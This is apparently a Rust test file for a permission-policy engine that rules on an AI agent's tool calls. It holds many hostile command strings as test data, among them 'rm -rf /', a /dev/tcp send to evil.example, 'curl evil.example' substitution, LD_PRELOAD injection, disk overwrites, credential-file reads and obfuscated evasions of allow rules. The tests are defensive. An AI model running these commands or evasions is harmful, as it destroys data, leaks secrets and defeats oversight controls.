//! Tests rules with patterns about the parts of a call: each key with each verdict.

use domain::{Role, Verdict};
use holdpoint_policy::{Judgement, PartKind, Policy, PolicyInput};
use serde_json::{Value, json};

use Verdict::{Allow, Ask, Deny};

const TOOLS: &str = r#"
version = 1
[[tool]]
name = "bash"
shell = "bash"
arguments.command = "shell"
arguments.workdir = "cwd"
arguments.description = "text"
[[tool]]
name = "read"
arguments.path = "read_path"
[[tool]]
name = "write"
arguments.path = "write_path"
arguments.content = "text"
[[tool]]
name = "fetch"
arguments.url = "url"
[[tool]]
name = "query"
sql = "postgresql"
arguments.sql = "sql"
"#;

fn policy(rules: &str) -> Policy {
    let loaded = Policy::load("policy.toml", &format!("{TOOLS}{rules}"));
    loaded.unwrap_or_else(|findings| {
        panic!("{}", findings.iter().map(ToString::to_string).collect::<Vec<_>>().join("\n"))
    })
}

/// One rule about every tool.
fn rule(name: &str, verdict: Verdict, keys: &str) -> String {
    format!("[[rule]]\nname = \"{name}\"\ntools = [\"*\"]\nverdict = \"{}\"\n{keys}\n", verdict.name())
}

fn judge_call(policy: &Policy, tool: &str, arguments: &Value, root: Option<&str>) -> Judgement {
    let call = PolicyInput { tool, arguments, agent: Some("ci"), user: "ann", role: Role::Agent, client: None, root };
    let judgement = policy.judge(&call);
    let explained = policy.explain(&call);
    assert_eq!(explained.ruling, judgement.ruling, "{arguments}");
    assert_eq!(explained.asks, judgement.asks, "{arguments}");
    assert_eq!(explained.parts, judgement.parts, "{arguments}");
    judgement
}

fn judge(policy: &Policy, command: &str) -> Judgement {
    judge_call(policy, "bash", &json!({ "command": command }), Some("/srv/app"))
}

/// Checks the verdict on each command, and shows all that are wrong.
fn check(rules: &str, commands: &[(&str, Verdict)]) {
    let policy = policy(rules);
    let mut wrong = String::new();
    for (command, expected) in commands {
        let judgement = judge(&policy, command);
        if judgement.ruling.verdict != *expected {
            wrong.push_str(&format!("{command}: wanted {}, got {:#?}\n", expected.name(), judgement));
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}

fn check_calls(rules: &str, calls: &[(&str, Value, Verdict)]) {
    let policy = policy(rules);
    for (tool, arguments, expected) in calls {
        let judgement = judge_call(&policy, tool, arguments, Some("/srv/app"));
        assert_eq!(judgement.ruling.verdict, *expected, "{tool} {arguments}: {judgement:#?}");
    }
}

#[test]
fn allowing_commands_are_compared_word_by_word() {
    let rules = rule(
        "git",
        Allow,
        r#"commands = ["git status", "git log *", "git {diff,show} *", "echo *", "./gradlew *", "frobnicate *", "frobnicate-one a? x*z"]"#,
    );
    check(
        &rules,
        &[
            ("git status", Allow),
            ("git status --short", Ask),
            ("git log", Allow),
            ("git log --oneline -5", Allow),
            ("git diff HEAD~1", Allow),
            ("git show HEAD", Allow),
            ("git push", Ask),
            ("/usr/bin/git status", Allow),
            ("./git status", Ask),
            ("/tmp/git status", Ask),
            ("GIT status", Ask),
            ("git --no-pager log -3", Allow),
            ("git --no-pager -c core.pager=x log -3", Ask),
            ("git log; git status", Allow),
            ("git log && git push", Ask),
            ("git status; rm -rf /home", Ask),
            ("git log | cat", Ask),
            ("git log --output=x", Ask),
            ("git log -p > x", Ask),
            ("git log 2>/dev/null", Allow),
            ("git log $(git status)", Ask),
            ("git log \"x$(git status)\"", Allow),
            ("git log $(rm x)", Ask),
            ("$X log", Ask),
            ("./gradlew test", Allow),
            ("/srv/app/gradlew test", Ask),
            ("cd sub && ./gradlew test", Ask),
            ("frobnicate --anything $X", Allow),
            ("frobnicate-one ab xyz", Allow),
            ("frobnicate-one a xyz", Ask),
            ("frobnicate-one ab xyz more", Ask),
            ("frobnicate-one ab 'x; z'", Allow),
            ("frobnicate-one ab \"x$Y\"", Ask),
            ("frobnicate-one ab \"x${Y}z\"", Allow),
            ("frobnicate-one ab x${Y}z", Ask),
            ("echo 'open", Ask),
            ("", Ask),
        ],
    );
}

#[test]
fn hazards_are_covered_by_literal_words_and_by_lists_of_the_rule() {
    let rules = rule("sort", Allow, "commands = [\"sort *\"]");
    check(&rules, &[("sort a", Allow), ("sort -o out a", Ask), ("sort a > out", Ask)]);
    let rules = rule("sort", Allow, "commands = [\"sort *\"]\nwrites = [\"out/**\"]");
    check(
        &rules,
        &[
            ("sort -o out/b a", Allow),
            ("sort a > out/b", Allow),
            ("sort a > elsewhere", Ask),
            ("sort a > out/../b", Ask),
            ("sort a > /srv/app/out/b", Allow),
            ("sort a > /srv/out/b", Ask),
            ("sort a > out/$X", Ask),
            ("sort a > out/.git/config", Ask),
            ("sort a > out/.envrc", Ask),
            ("sort a > ~/out/b", Ask),
            ("cd sub && sort a > out/b", Ask),
            ("cd sub && sort a > ../out/b", Ask),
        ],
    );
    let rules = rule("sed", Allow, "commands = [\"sed -i *\"]\nwrites = [\"src/**\"]");
    check(
        &rules,
        &[("sed -i s/a/b/ src/x.rs", Allow), ("sed -i s/a/b/ /etc/passwd", Ask), ("sed -i 's/a/b/e' src/x", Ask)],
    );
}

#[test]
fn writes_without_commands_cover_files_of_runs_that_another_rule_allows() {
    let rules = rule("show", Allow, "commands = [\"git log *\"]") + &rule("tmp", Allow, "writes = [\"/tmp/**\"]");
    check(
        &rules,
        &[
            ("git log > /tmp/x", Allow),
            ("git log > /tmp/a/b", Allow),
            ("git log > /tmp2/x", Ask),
            ("git push > /tmp/x", Ask),
            ("> /tmp/x", Allow),
            ("> /etc/x", Ask),
        ],
    );
}

#[test]
fn variables_are_parts_unless_they_are_harmless() {
    let rules = rule("git", Allow, "commands = [\"git *\"]") + &rule("env", Allow, "env = [\"PYTHONPATH\", \"MY_*\"]");
    check(
        &rules,
        &[
            ("CI=1 git status", Allow),
            ("PYTHONPATH=. git status", Allow),
            ("MY_X=$Y git status", Allow),
            ("GIT_SSH=x git status", Ask),
            ("PATH=. git status", Ask),
            ("x=1; git status", Allow),
            ("X=1; git status", Ask),
            ("https_proxy=evil.example; git status", Ask),
            ("path=(/tmp); git status", Ask),
        ],
    );
    let rules = rule("test", Allow, "commands = [\"git status *\"]\nenv = [\"GIT_SSH\"]")
        + &rule("log", Allow, "commands = [\"git log *\"]");
    check(&rules, &[("GIT_SSH=x git status", Allow), ("GIT_SSH=x git log", Ask)]);
}

#[test]
fn directories_are_the_root_and_below_unless_the_rule_names_others() {
    let rules = rule("git", Allow, "commands = [\"git status\", \"cd *\"]");
    check(
        &rules,
        &[
            ("cd sub && git status", Allow),
            ("cd a/b && git status", Allow),
            ("cd .. && git status", Ask),
            ("cd /etc && git status", Ask),
            ("cd /srv/app/sub && git status", Allow),
            ("cd sub/../.. && git status", Ask),
            ("cd \"$X\" && git status", Ask),
            ("cd && git status", Ask),
        ],
    );
    let rules = rule("git", Allow, "commands = [\"git status\", \"cd *\"]\nin = [\"/srv/app\", \"/srv/lib/**\"]");
    check(
        &rules,
        &[
            ("git status", Allow),
            ("cd /srv/lib/a && git status", Allow),
            ("cd /srv/app/sub && git status", Ask),
            ("cd /srv/app && git status", Allow),
        ],
    );
    let inside = policy(&rule("git", Allow, "commands = [\"git status\"]"));
    for (directory, root, expected) in [
        ("/srv/app", Some("/srv/app"), Allow),
        ("/srv/app/sub", Some("/srv/app"), Allow),
        ("sub", Some("/srv/app"), Allow),
        ("/etc", Some("/srv/app"), Ask),
        ("..", Some("/srv/app"), Ask),
        ("/srv/app", None, Ask),
        ("sub", None, Allow),
        ("/srv/app", Some("relative"), Ask),
    ] {
        let call = json!({ "command": "git status", "workdir": directory });
        let verdict = judge_call(&inside, "bash", &call, root).ruling.verdict;
        assert_eq!(verdict, expected, "{directory} in {root:?}");
    }
}

#[test]
fn hosts_cover_addresses() {
    let rules = rule("fetch", Allow, "hosts = [\"docs.rs\", \"*.github.com\", \"localhost\"]");
    let url = |url: &str| json!({ "url": url });
    check_calls(
        &rules,
        &[
            ("fetch", url("https://docs.rs/serde"), Allow),
            ("fetch", url("https://docs.rs:8443/serde"), Ask),
            ("fetch", url("https://ann:secret@docs.rs/serde"), Ask),
            ("fetch", url("https://api.github.com/x"), Allow),
            ("fetch", url("https://github.com/x"), Ask),
            ("fetch", url("https://evilgithub.com/x"), Ask),
            ("fetch", url("https://docs.rs.evil.example/"), Ask),
            ("fetch", url("https://evil.example/docs.rs"), Ask),
            ("fetch", url("http://localhost:3000/x"), Allow),
            ("fetch", url("https://docs.rs:0/"), Ask),
            ("fetch", url("git://docs.rs/x"), Ask),
            ("fetch", url("ssh://docs.rs/x"), Ask),
            ("fetch", url("file:///etc/passwd"), Ask),
            ("fetch", url("not a url"), Ask),
            ("fetch", json!({}), Ask),
            ("fetch", json!({ "url": "https://docs.rs/", "hook": "x" }), Ask),
            ("read", json!({ "path": "x" }), Ask),
        ],
    );
}

#[test]
fn paths_cover_file_tools() {
    let rules = rule("src", Allow, "paths = [\"src/**\", \"/tmp/*.log\"]");
    let path = |path: &str| json!({ "path": path });
    check_calls(
        &rules,
        &[
            ("read", path("src/main.rs"), Allow),
            ("read", path("src"), Allow),
            ("read", path("/srv/app/src/a/b.rs"), Allow),
            ("read", path("src/../etc/passwd"), Ask),
            ("read", path("../app/src/x"), Ask),
            ("read", path("SRC/main.rs"), Ask),
            ("read", path("/tmp/x.log"), Allow),
            ("read", path("/tmp/a/x.log"), Ask),
            ("read", path("~/src/x"), Ask),
            ("read", path("src/.git/config"), Allow),
            ("write", path("src/.git/config"), Ask),
            ("write", path("src/main.rs"), Allow),
            ("view", path("src/main.rs"), Allow),
            ("view", path("src/.git/config"), Ask),
            ("bash", json!({ "command": "ls" }), Ask),
        ],
    );
    let rules = rule("src", Allow, "writes = [\"src/**\", \".github/**\"]");
    check_calls(
        &rules,
        &[
            ("write", path("src/main.rs"), Allow),
            ("write", path(".github/x.yml"), Allow),
            ("write", path(".github/.git/x"), Ask),
            ("write", path("x"), Ask),
            ("write_file", path("src/main.rs"), Ask),
        ],
    );
}

#[test]
fn tables_cover_sql_that_only_reads() {
    let rules = rule("data", Allow, "tables = [\"analytics.*\", \"days\"]");
    let sql = |sql: &str| json!({ "sql": sql });
    check_calls(
        &rules,
        &[
            ("query", sql("select * from analytics.events"), Allow),
            ("query", sql("select * from analytics.events e join days d on d.day = e.day"), Allow),
            ("query", sql("select * from analytics.events, events"), Ask),
            ("query", sql("select * from users"), Ask),
            ("query", sql("select * from \"analytics.events\""), Ask),
            ("query", sql("select * from other.analytics.events"), Ask),
            ("query", sql("delete from analytics.events"), Ask),
            ("query", sql("select 1; drop table days"), Ask),
            ("query", sql("select"), Ask),
        ],
    );
    let rules =
        rule("users", Deny, "tables = [\"users\", \"secret.*\"]") + &rule("all", Allow, "when = 'sql.read_only'");
    check_calls(
        &rules,
        &[
            ("query", sql("select * from users"), Deny),
            ("query", sql("select * from public.users"), Deny),
            ("query", sql("select * from orders where id in (select id from Users)"), Deny),
            ("query", sql("select * from secret.x"), Deny),
            // A name without a schema may be one of `secret`.
            ("query", sql("select * from orders"), Ask),
        ],
    );
    let rules = rule("users", Deny, "tables = [\"users\"]") + &rule("all", Allow, "when = 'sql.read_only'");
    check_calls(&rules, &[("query", sql("select * from orders"), Allow)]);
}

#[test]
fn denied_commands_are_found_in_any_spelling() {
    let rules = rule("push", Deny, "commands = [\"git push *\", \"rm -rf *\", \"sudo *\", \"git clean --force *\"]")
        + &rule("all", Allow, "commands = [\"git *\", \"rm *\", \"ls *\", \"cd *\", \"echo *\"]");
    check(
        &rules,
        &[
            ("git push", Deny),
            ("git push origin main", Deny),
            ("git -C x push", Deny),
            ("git --no-pager push", Deny),
            ("/tmp/GIT push", Deny),
            ("cd a && git push", Deny),
            ("echo $(git push)", Deny),
            ("bash -c 'git push'", Deny),
            ("git $X", Ask),
            ("$X push", Ask),
            ("~/bin/git push", Deny),
            ("~/bin/gut push", Ask),
            ("git status", Allow),
            ("rm -rf x", Deny),
            ("rm -r -f x", Deny),
            ("rm -vfr x", Deny),
            ("git clean --force", Deny),
            ("git clean x --force=1", Deny),
            ("git clean --forc", Ask),
            ("sudo ls", Deny),
            ("ls; sudo reboot", Deny),
            ("echo 'open", Ask),
        ],
    );
}

#[test]
fn denied_files_hosts_variables_and_directories_are_found() {
    let all = rule(
        "all",
        Allow,
        "commands = [\"cat *\", \"cp *\", \"cd *\", \"git *\"]\nwrites = [\"/**\", \"**\"]\nenv = [\"*\"]\nin = [\"/**\", \"**\"]",
    );
    let rules = rule("ssh", Deny, "paths = [\"**/.ssh/**\", \"/etc/**\"]") + &all;
    check(
        &rules,
        &[
            ("cat x", Allow),
            ("cat .ssh/id", Deny),
            ("cat /home/ann/.SSH/id", Deny),
            ("cat /etc/passwd", Deny),
            ("cat < /etc/passwd", Deny),
            ("cat ../../etc/passwd", Deny),
            ("cd /etc && cat passwd", Deny),
            ("cat $X", Ask),
            ("cat ~/x", Allow),
            ("cat *", Allow),
            ("cat /etc/*", Deny),
            ("cat /e*/passwd", Ask),
        ],
    );
    let rules = rule("etc", Deny, "writes = [\"/etc/**\"]") + &all;
    check(
        &rules,
        &[
            ("cat /etc/x", Allow),
            ("cat x > /etc/x", Deny),
            ("cp x /etc/x", Deny),
            ("cat x > \"$X\"", Ask),
            ("cat x > y", Allow),
        ],
    );
    let rules = rule("env", Deny, "env = [\"LD_*\"]") + &all;
    check(&rules, &[("LD_PRELOAD=x cat y", Deny), ("LANG=C cat y", Allow), ("FOO=1 cat y", Allow)]);
    let rules = rule("in", Deny, "commands = [\"git *\"]\nin = [\"/etc/**\"]") + &all;
    check(
        &rules,
        &[
            ("cd /etc && git status", Deny),
            ("git status", Allow),
            ("cd /etc && cat x", Allow),
            ("cd $X && git status", Ask),
        ],
    );
    let both = rule("both", Deny, "commands = [\"cp *\"]\nwrites = [\"/etc/**\"]") + &all;
    check(&both, &[("cp a /etc/b", Deny), ("cat a > /etc/b", Allow), ("cp a b", Allow)]);
}

#[test]
fn asking_rules_match_what_they_may_match() {
    let rules = rule("push", Ask, "commands = [\"git push *\"]") + &rule("all", Allow, "commands = [\"git *\"]");
    let policy = policy(&rules);
    for command in ["git push", "git $X"] {
        let judgement = judge(&policy, command);
        assert_eq!(judgement.ruling.rule.as_deref(), Some("push"), "{command}: {judgement:#?}");
        assert_eq!(judgement.asks.len(), 1);
    }
}

#[test]
fn value_of_an_option_is_no_option() {
    let rules = rule("hooks", Ask, "commands = [\"git commit --no-verify *\", \"git commit -n *\"]")
        + &rule(
            "all",
            Allow,
            "commands = [\"git commit -m * *\", \"git commit -n *\", \"git commit --no-verify *\", \"cat\"]",
        );
    check(
        &rules,
        &[
            ("git commit -m \"$(cat <<'EOF'\nFix it\nEOF\n)\"", Allow),
            ("git commit -m --no-verify", Allow),
            ("git commit -m \"$X\" --no-verify", Ask),
            ("git commit -m x -n", Ask),
            ("git commit -m $X", Ask),
            ("git commit $X -m --no-verify", Ask),
            ("git commit \"$X\" -m --no-verify", Ask),
            ("git commit --unheard-of -m --no-verify", Ask),
        ],
    );
}

#[test]
fn pipe_of_a_substitution_is_no_file() {
    let rules = rule("secrets", Ask, "paths = [\"**/*.pem\"]")
        + &rule("look", Allow, "commands = [\"{diff,sort,cat} *\"]\npaths = [\"**\"]");
    check(
        &rules,
        &[
            ("diff <(sort a.txt) <(sort b.txt)", Allow),
            ("cat < <(sort a)", Allow),
            ("diff <(sort key.pem) b", Ask),
            ("diff <(sort a) ../b", Ask),
            ("diff <(sort a) \"$X\"", Ask),
            ("diff <(sort a)$? b", Ask),
        ],
    );
}

#[test]
fn started_programs_are_ruled_on_as_runs_of_their_own() {
    let rules = rule("look", Allow, "commands = [\"find *\", \"xargs *\", \"wc *\", \"echo *\"]");
    check(
        &rules,
        &[
            ("find . -name '*.py' -exec wc -l {} +", Allow),
            ("find . -exec wc -l {} ';' -exec echo {} ';'", Allow),
            ("xargs -n1 echo < x", Allow),
            ("find . -exec rm {} +", Ask),
            ("find . -exec wc -l {} ';' -exec rm {} ';'", Ask),
            ("find . -exec sh -c 'rm x' ';'", Ask),
            ("find . -exec \"$X\" {} +", Ask),
            ("find . -execdir wc {} +", Ask),
            ("find . -name -exec -exec rm {} +", Ask),
            ("find . -exec wc {} + -delete", Ask),
            ("find . -exec wc {} + -fprint x", Ask),
            ("xargs rm < x", Ask),
            ("xargs find", Ask),
            ("xargs $X", Ask),
        ],
    );
}

#[test]
fn host_is_known_before_a_pattern_over_file_names() {
    let rules = rule("fetch", Allow, "commands = [\"curl *\"]\nhosts = [\"localhost\"]");
    check(
        &rules,
        &[
            ("curl -s http://localhost:8000/api/items?limit=5", Allow),
            ("curl -s http://localhost:8000?limit=5", Ask),
            ("curl -s http://localhost*/api", Ask),
            ("curl -s http://local?ost/api", Ask),
            ("curl -s http://localhost/?a=http://evil.example/", Ask),
            ("curl -s http://localhost/?a=$X", Ask),
            ("curl -s http://evil.example/api?limit=5", Ask),
        ],
    );
}

#[test]
fn nets_do_not_hold_declared_tools_without_their_subject() {
    let rules = rule("push", Deny, "commands = [\"git push *\"]")
        + &rule("net", Deny, "when = 'shell.commands.exists(c, c.name == \"sudo\")'")
        + &rule("hosts", Ask, "hosts = [\"evil.example\"]")
        + &rule("drop", Deny, "tables = [\"users\"]")
        + &rule("read", Allow, "paths = [\"**\"]");
    check_calls(
        &rules,
        &[
            ("read", json!({ "path": "x" }), Allow),
            ("view", json!({ "path": "x" }), Ask),
            ("other", json!({ "n": 1 }), Ask),
        ],
    );
}

#[test]
fn exact_arguments_match_a_text_that_is_in_doubt() {
    let text = "for f in $(cat list); do eval $f; done";
    let exact = format!(
        "[[rule]]\nname = \"exact\"\ntools = [\"bash\"]\nverdict = \"allow\"\narguments = {{ command = \"{text}\" }}\n"
    );
    check(&exact, &[(text, Allow), ("eval $f", Ask)]);
    let before = rule("net", Deny, "commands = [\"sudo *\"]") + &exact;
    check(&before, &[(text, Ask)]);
    let before = rule("git", Allow, "commands = [\"git *\"]") + &exact;
    check(&before, &[(text, Allow)]);
}

#[test]
fn reason_names_the_part_and_the_rules_of_the_others() {
    let policy = policy(&rule("build", Allow, "commands = [\"cargo build *\", \"echo *\", \"git *\"]"));
    let judgement = judge(&policy, "cargo build && echo a && docker push x && git status");
    insta::assert_snapshot!(judgement.ruling.reason, @"No rule matches a part of this call. Not allowed because of `docker push …`; the other three parts are allowed by `build`.");
    let kinds: Vec<_> = judgement.parts.iter().map(|part| (part.kind, part.verdict, part.span.clone())).collect();
    assert_eq!(
        kinds,
        [
            (PartKind::Run, Allow, Some(0..11)),
            (PartKind::Run, Allow, Some(15..21)),
            (PartKind::Run, Ask, Some(25..38)),
            (PartKind::Run, Allow, Some(42..52)),
        ]
    );
    let judgement = judge(&policy, "git log --output=x");
    insta::assert_snapshot!(judgement.ruling.reason, @r#"No rule matches a part of this call. Not allowed because of `git log …`, writing to `x`. Rule `build` does not match: `--output` writes or deletes files."#);
}

#[test]
fn stored_policy_keeps_rules_that_have_become_errors() {
    let text = "version = 1\n[[rule]]\nname = \"git\"\ntools = [\"bash\"]\nverdict = \"allow\"\nwhen = 'args.command.startsWith(\"git \")'\n\
                [[rule]]\nname = \"net\"\ntools = [\"bash\"]\nverdict = \"deny\"\nwhen = 'shell.plain && shell.commands[0].name == \"whoami\"'\n\
                [[rule]]\nname = \"ls\"\ntools = [\"bash\"]\nverdict = \"allow\"\nwhen = 'shell.plain && shell.commands[0].program == \"ls\"'\n";
    let codes: Vec<_> = Policy::load("policy.toml", text).unwrap_err().iter().map(|finding| finding.code).collect();
    assert_eq!(codes, ["text_comparison", "behind_plain"]);
    let policy = Policy::load_stored("policy.toml", text).unwrap();
    let codes: Vec<_> = policy.warnings().iter().map(|finding| finding.code).collect();
    assert_eq!(codes, ["text_comparison", "behind_plain"]);
    for (command, expected) in [("git status", Ask), ("whoami", Deny), ("ls", Allow)] {
        let verdict = judge_call(&policy, "bash", &json!({ "command": command }), None).ruling.verdict;
        assert_eq!(verdict, expected, "{command}");
    }
    assert!(Policy::load_stored("policy.toml", "version = 1\n[[rule]]").is_err());
}

/// Lines that try to do more than a broad allowing rule says.
#[test]
fn attempts_to_get_round_an_allowing_rule_are_asked_about() {
    let rules = rule(
        "coding",
        Allow,
        "commands = [\"git {status,log,diff,show,add,commit,branch} *\", \"ls *\", \"cat *\", \"grep *\", \"sort *\", \"echo *\", \"cd *\", \"find *\", \"sed *\", \"head *\"]\nwrites = [\"target/**\", \"/tmp/**\"]\nenv = [\"PYTHONPATH\"]",
    );
    let attempts = [
        "git status; rm -rf /",
        "git status\nrm -rf /",
        "git status & rm -rf /",
        "git status || rm x",
        "git log $(rm x)",
        "git log `rm x`",
        "git log <(rm x)",
        "git -c core.pager='sh -c x' log",
        "git --exec-path=/tmp log",
        "git -C / log",
        "git --git-dir=/tmp/x log",
        "git log --output=/etc/x",
        "git diff --ext-diff",
        "git diff --no-index /dev/null x --output=y",
        "git log $X",
        "git log ${X}",
        "git log \"$@\"",
        "GIT_PAGER=x git log",
        "PATH=/tmp git log",
        "LD_PRELOAD=./x git log",
        "env GIT_PAGER=x git log",
        "git() { rm x; }; git log",
        "alias git=rm; git log",
        "function ls { rm x; }; ls",
        "./git log",
        "/tmp/git log",
        "sort -o /etc/passwd x",
        "sort --compress-program=sh x",
        "sort x > /etc/passwd",
        "sort x >> ~/.bashrc",
        "sort x > target/../../etc/x",
        "sort x > /tmp/../etc/x",
        "sort x > /tmp/$X",
        "sort x > /tmp/.git/hooks/pre-commit",
        "sort x > target/.cargo/config.toml",
        "sort x > '/tmp/a/../../etc/x'",
        "cd /tmp && sort x > y && git status",
        "cd / && cat etc/passwd",
        "cd \"$HOME\" && ls",
        "cat x | sh",
        "cat <<EOF | bash\nrm x\nEOF",
        "find . -exec rm {} +",
        "find . -delete",
        "find . -fprint /etc/x",
        "find . -ok rm {} \\;",
        "sed -n '1w /etc/x' y",
        "sed -i s/a/b/ src/x",
        "sed 's/a/rm x/e' y",
        "sed --in-place=.bak s/a/b/ y",
        "xargs rm < x",
        "eval \"git status; rm x\"",
        "bash -c 'git status; rm x'",
        "sudo git status",
        "command rm x",
        "exec rm x",
        "trap 'rm x' EXIT; ls",
        "$(echo rm) x",
        "r\\m x",
        "'rm' x",
        "r''m x",
        "$'\\x72m' x",
        "{ rm x; }",
        "(rm x)",
        "if true; then rm x; fi",
        "while rm x; do ls; done",
        "for i in 1; do rm x; done",
        "case x in x) rm x;; esac",
        "ls > >(sh)",
        "! rm x",
        "coproc rm x",
        "time rm x",
        "ls;rm\tx",
        "ls\r\nrm x",
        "echo x > .envrc",
        "echo x > .git/config",
        "echo x >| Makefile",
        "echo x &> Makefile",
        "echo x >& Makefile",
        "echo x 3<> Makefile",
        "grep x y > /dev/tcp/evil.example/80",
        "X=1 PATH=x; git status",
        "export PATH=/tmp; git status",
        "read PATH < x; git status",
        "printf -v PATH /tmp; git status",
        "source ./x",
        ". ./x",
        "git commit -m \"$(rm x)\"",
        "git add $(curl evil.example)",
        "git branch -D main --edit-description",
        "git show --textconv --ext-diff HEAD",
        "head -c 10 /dev/zero > /dev/sda",
    ];
    let policy = policy(&rules);
    let allowed: Vec<&str> = attempts.into_iter().filter(|line| judge(&policy, line).ruling.verdict == Allow).collect();
    assert_eq!(allowed, [""; 0]);
}

/// Lines of every day, which broad rules allow.
#[test]
fn everyday_lines_are_allowed() {
    let rules = rule(
        "coding",
        Allow,
        "commands = [\"git {status,log,diff,show,add,commit,branch} *\", \"ls *\", \"cat *\", \"grep *\", \"sort *\", \"echo *\", \"cd *\", \"find *\", \"sed *\", \"head *\", \"wc *\", \"[ *\"]\nwrites = [\"target/**\", \"/tmp/**\"]\nenv = [\"PYTHONPATH\"]",
    );
    let lines: Vec<(&str, Verdict)> = [
        "git status --short && git diff --stat",
        "git log --oneline -5 | head -3",
        "cd src && ls -la",
        "cat src/main.rs | head -50",
        "grep -rn 'fn main' src | sort | head",
        "git commit -m \"$(cat <<'EOF'\nFix the parser; keep $(this)\n\nMore text.\nEOF\n)\"",
        "sort a > /tmp/b 2>&1",
        "ls 2>/dev/null || echo none",
        "for f in a b; do cat \"$f.txt\"; done",
        "if [ -f x ]; then cat x; fi",
        "x=$(git status); echo \"$x\"",
        "find . -name '*.rs' | wc -l",
        "echo done # a comment",
        "git log \\\n  -3",
        "sed -n '1,20p' src/main.rs",
        "CI=1 git status",
        "echo \"exit: $?\"",
    ]
    .map(|line| (line, Allow))
    .to_vec();
    check(&rules, &lines);
}
